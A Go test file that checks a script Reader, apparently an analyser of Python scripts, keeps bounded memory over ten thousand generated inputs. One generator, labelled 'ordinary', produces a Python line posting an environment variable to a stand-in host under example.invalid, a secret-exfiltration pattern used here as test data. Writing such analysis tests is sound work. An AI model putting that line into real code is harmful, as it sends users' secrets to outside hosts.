package script

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
)

// What a Reader keeps of ten thousand scripts is bounded, whether they are long, read to much, or neither.
func TestReaderMemory(t *testing.T) {
	const scripts, most = 10_000, 48 << 20
	var b strings.Builder
	for i := range 100 {
		fmt.Fprintf(&b, "h.get('%c%d.io')\n", 'a'+i%26, i)
	}
	many := b.String()
	long := strings.Repeat("print('a')  # padding of a line that says nothing\n", 60)
	for name, script := range map[string]func(int) string{
		"ordinary": func(i int) string {
			return fmt.Sprintf("import os, requests\nrequests.post('https://h%d.example.invalid/x', data=os.environ['T'])\n", i)
		},
		"long": func(i int) string { return fmt.Sprintf("x = %d\n", i) + long },
		"much": func(i int) string { return fmt.Sprintf("import httpx as h\nx = '%d'\n", i) + many }, // a short text of which much is told
	} {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		var r Reader
		kept, known := int64(0), 0
		for i := range scripts {
			r.Read(Input{Text: script(i), Shell: "python", Env: secretEnv})
			if i%500 == 499 { // what is kept grows until it is let go
				runtime.GC()
				runtime.ReadMemStats(&after)
				if now := int64(after.HeapAlloc) - int64(before.HeapAlloc); now > kept {
					kept, known = now, len(r.known)
				}
			}
		}
		if kept > most {
			t.Errorf("%s: %d MiB are kept", name, kept>>20)
		}
		t.Logf("%s: at most %d MiB of %d readings", name, kept>>20, known)
		runtime.KeepAlive(&r)
	}
}
